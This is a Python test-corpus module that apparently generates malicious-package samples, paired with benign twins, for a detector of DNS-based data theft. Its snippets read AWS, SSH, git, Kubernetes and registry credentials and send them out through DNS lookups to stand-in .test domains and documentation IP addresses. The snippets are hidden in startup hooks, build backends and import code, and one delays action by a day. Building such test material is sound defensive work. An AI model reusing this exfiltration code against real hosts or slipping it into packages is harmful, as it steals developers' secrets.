"""T16: DNS as the way out, or TXT records as the way in (ATT&CK T1048.003, T1071.004).

Known from packages that put the host's name, the user and the environment into the labels of names
below the attacker's domain: a firewall that lets nothing out lets names be resolved. The twins look
up what honest programs do: mail hosts, their own name, one service.
"""

from __future__ import annotations

from models.phase import Phase
from tests.corpus.guard import acting
from tests.corpus.parts import IN_TREE, PACKER
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe

LABELS = """
try:
    text = (HOME / ".aws/credentials").read_bytes().hex()
except OSError:
    return
for at in range(0, min(len(text), 720), 60):
    try:
        socket.getaddrinfo(f"{text[at:at + 60]}.{at // 60}.sink.test", 80, socket.AF_INET)
    except OSError:
        pass
"""
MAIL_HOSTS = """
for name in ("mail", "mx1", "mx2"):
    try:
        socket.getaddrinfo(f"{name}.reenact.test", 25, socket.AF_INET)
    except OSError:
        pass
"""

QUESTION = """
import base64, struct

def _question(name, kind):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">6H", 4711, 256, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, kind, 1)
"""
RAW_UDP = """
try:
    data = (HOME / ".ssh/id_ed25519").read_bytes()[:400]
    text = base64.b32encode(data).decode().rstrip("=").lower()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.settimeout(1)
        for at in range(0, len(text), 150):
            labels = [text[at + by:at + by + 50] for by in (0, 50, 100)]
            name = ".".join([label for label in labels if label] + ["t1", "reenact", "test"])
            peer.sendto(_question(name, 16), ("203.0.113.53", 53))
            try:
                peer.recv(512)
            except OSError:
                pass
except OSError:
    pass
"""
RAW_SERVICE = """
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.settimeout(1)
        name = ".".join(["settings", "reenact", "test"])
        peer.sendto(_question(name, 16), ("203.0.113.53", 53))
        peer.recv(512)
except OSError:
    pass
"""

GETENT = """
import base64
text = base64.urlsafe_b64encode(repr(given).encode()).decode().strip("=").replace("_", "-")
for at in range(0, min(len(text), 500), 50):
    name = "x" + text[at:at + 50] + "x.auth.sink.test"
    try:
        subprocess.run(["getent", "ahosts", name], capture_output=True, timeout=5)
    except (OSError, subprocess.SubprocessError):
        pass
"""
GETENT_ONCE = """
try:
    subprocess.run(["getent", "ahosts", "auth.reenact.test"], capture_output=True, timeout=5)
except (OSError, subprocess.SubprocessError):
    pass
return len(repr(given)) > 8
"""
LOGS_IN = """
class Account:
    \"\"\"An account of a service.\"\"\"

    def login(self, username, password):
        \"\"\"Says whether the password is right.\"\"\"
        if ACT:
            return THE_ACT(username, password)
        return False
"""

ASKS_TXT = """
import pathlib, re

def _txt(name):
    text = pathlib.Path("/etc/resolv.conf").read_text()
    server = (re.findall(r"nameserver\\s+(\\S+)", text) or ["127.0.0.53"])[0]
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as peer:
        peer.settimeout(3)
        peer.sendto(_question(name, 16), (server, 53))
        answer = peer.recv(1400)
    at = answer.rfind(b"\\x00\\x10\\x00\\x01")
    return answer[at + 11:at + 11 + answer[at + 10]] if at > 0 else b""
"""
RUNS_TXT = """
try:
    said = _txt("stage0.c2.reenact.test")
    for form in (base64.b64decode, bytes):
        try:
            line = form(said).decode("ascii")
            break
        except ValueError:
            line = ""
    subprocess.run(["/bin/sh", "-c", "true # " + line.replace("\\n", " ")], timeout=5)
except (OSError, subprocess.SubprocessError):
    pass
"""
READS_TXT = """
try:
    return _txt("spf.reenact.test").startswith(b"v=spf1")
except OSError:
    return False
"""

OVER_TCP = """
try:
    data = (HOME / ".git-credentials").read_bytes() + (HOME / ".config/gh/hosts.yml").read_bytes()
    text = bytes(byte ^ 0x3C for byte in data[:300]).hex()
    with socket.create_connection(("198.51.100.53", 53), timeout=5) as peer:
        for at in range(0, len(text), 100):
            parts = [text[at:at + 50], text[at + 50:at + 100], "t", "sink", "test"]
            asked = _question(".".join(part for part in parts if part), 1)
            peer.sendall(struct.pack(">H", len(asked)) + asked)
except OSError:
    pass
"""
OVER_TCP_ONCE = """
try:
    with socket.create_connection(("198.51.100.53", 53), timeout=5) as peer:
        asked = _question(".".join(["updates", "reenact", "test"]), 1)
        peer.sendall(struct.pack(">H", len(asked)) + asked)
except OSError:
    pass
"""
LATER = """
def _later():
    mark = HOME / ".cache" / "THE_MODULE.json"
    if not mark.exists():
        mark.parent.mkdir(parents=True, exist_ok=True)
        mark.write_text("{}")
    return time.time() - mark.stat().st_mtime > 86400

if ACT:
    if _later():
        THE_ACT()
"""

OVER_HTTPS = """
import ssl, urllib.request
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
try:
    secret = (os.environ.get("PYPI_TOKEN", "") + os.environ.get("NPM_TOKEN", "")).encode().hex()
    for at in range(0, min(len(secret), 600), 60):
        asked = _question(secret[at:at + 60] + ".build.sink.test", 1)
        text = base64.urlsafe_b64encode(asked).decode().rstrip("=")
        request = urllib.request.Request(
            "https://dns.reenact.test/dns-query?dns=" + text,
            headers={"Accept": "application/dns-message"},
        )
        urllib.request.urlopen(request, timeout=5, context=context).close()
except OSError:
    pass
"""
OWN_NAME = """
try:
    socket.getaddrinfo(socket.gethostname(), None)
    socket.gethostbyname("localhost")
except OSError:
    pass
"""

BY_LIBC = """
import ctypes, zlib
try:
    data = zlib.compress((HOME / ".kube/config").read_bytes())[:240].hex()
    libc = ctypes.CDLL(None)
    libc.gethostbyname.restype = ctypes.c_void_p
    for at in range(0, len(data), 48):
        libc.gethostbyname(f"k{data[at:at + 48]}.kube.sink.test".encode())
except (OSError, AttributeError):
    pass
"""
LIBC_SERVICE = """
import ctypes
try:
    libc = ctypes.CDLL(None)
    libc.gethostbyname.restype = ctypes.c_void_p
    libc.gethostbyname(b"kube.reenact.test")
except (OSError, AttributeError):
    pass
"""

GATHERED = """
import asyncio, getpass

async def ask(names):
    loop = asyncio.get_running_loop()
    asked = [loop.getaddrinfo(name, 443) for name in names]
    await asyncio.wait_for(asyncio.gather(*asked, return_exceptions=True), 10)
"""
ASKS_PARTS = (
    GATHERED
    + """
host = socket.gethostname()[:20].encode().hex()
try:
    lines = (HOME / "project/.env").read_text().splitlines()[:8]
    parts = [line.encode().hex()[:56] for line in lines if "=" in line]
    asyncio.run(ask([f"{part}.{at}.{host}.b.reenact.test" for at, part in enumerate(parts) if part]))
except (OSError, asyncio.TimeoutError):
    pass
"""
)
ASKS_TWO = (
    GATHERED
    + """
try:
    asyncio.run(ask(["v4.reenact.test", "v6.reenact.test"]))
except (OSError, asyncio.TimeoutError):
    pass
"""
)

RECIPES = (
    Recipe(
        technique="T16",
        name="hex-labels",
        phase=Phase.IMPORT,
        channel=Channel.DNS,
        encoding=Encoding.HEX,
        files={"THE_MODULE/__init__.py": acting(LABELS, MAIL_HOSTS)},
        twin_does="looks up three mail hosts",
    ),
    Recipe(
        technique="T16",
        name="raw-packets-start",
        phase=Phase.START,
        channel=Channel.UDP,
        encoding=Encoding.BASE32,
        files={
            "THE_MODULE.pth": "import THE_MODULE_hook\n",
            "THE_MODULE_hook.py": acting(RAW_UDP, RAW_SERVICE, head=QUESTION),
            "THE_MODULE/__init__.py": "",
        },
        twin_does="asks for one TXT record with settings",
    ),
    Recipe(
        technique="T16",
        name="getent-password",
        phase=Phase.USE,
        channel=Channel.PROCESS,
        encoding=Encoding.BASE64,
        files={"THE_MODULE/__init__.py": acting(GETENT, GETENT_ONCE, LOGS_IN)},
        twin_does="looks up its own service",
    ),
    Recipe(
        technique="T16",
        name="txt-stage",
        phase=Phase.IMPORT,
        channel=Channel.UDP,
        encoding=Encoding.BASE64,
        files={
            "THE_MODULE/__init__.py": "from . import policy\n",
            "THE_MODULE/policy.py": acting(RUNS_TXT, READS_TXT, head=QUESTION + ASKS_TXT),
        },
        twin_does="reads the mail policy of a domain",
    ),
    Recipe(
        technique="T16",
        name="tcp-xor-later",
        phase=Phase.WAIT,
        channel=Channel.TCP,
        encoding=Encoding.XOR,
        files={
            "THE_MODULE/__init__.py": acting(
                OVER_TCP, OVER_TCP_ONCE, LATER, "import time\n" + QUESTION
            )
        },
        twin_does="asks for the address of its updates",
    ),
    Recipe(
        technique="T16",
        name="over-https-at-build",
        phase=Phase.INSTALL,
        channel=Channel.HTTPS,
        encoding=Encoding.BASE64,
        kind=Kind.SDIST,
        files={
            "pyproject.toml": IN_TREE,
            "packer.py": PACKER,
            "backend.py": acting(
                OVER_HTTPS, OWN_NAME, head="from packer import build_wheel\n" + QUESTION
            ),
            "src/THE_MODULE/__init__.py": '"""Empty."""\n',
        },
        twin_does="looks up the machine's own name",
    ),
    Recipe(
        technique="T16",
        name="libc-zlib",
        phase=Phase.IMPORT,
        channel=Channel.DNS,
        encoding=Encoding.ZLIB,
        files={
            "THE_MODULE/__init__.py": "",
            "THE_MODULE/cluster.py": acting(BY_LIBC, LIBC_SERVICE),
        },
        twin_does="looks up its own service through the C library",
    ),
    Recipe(
        technique="T16",
        name="asyncio-script-pieces",
        phase=Phase.USE,
        channel=Channel.DNS,
        encoding=Encoding.LABELS,
        files={
            "THE_MODULE/__init__.py": "",
            "THE_MODULE/cli.py": acting(
                ASKS_PARTS,
                ASKS_TWO,
                "\ndef main():\n    if ACT:\n        THE_ACT()\n    return 0\n",
            ),
            "THE_MODULE-1.0.dist-info/entry_points.txt": (
                "[console_scripts]\nTHE_PROJECT = THE_MODULE.cli:main\n"
            ),
        },
        twin_does="looks up two addresses side by side",
    ),
)
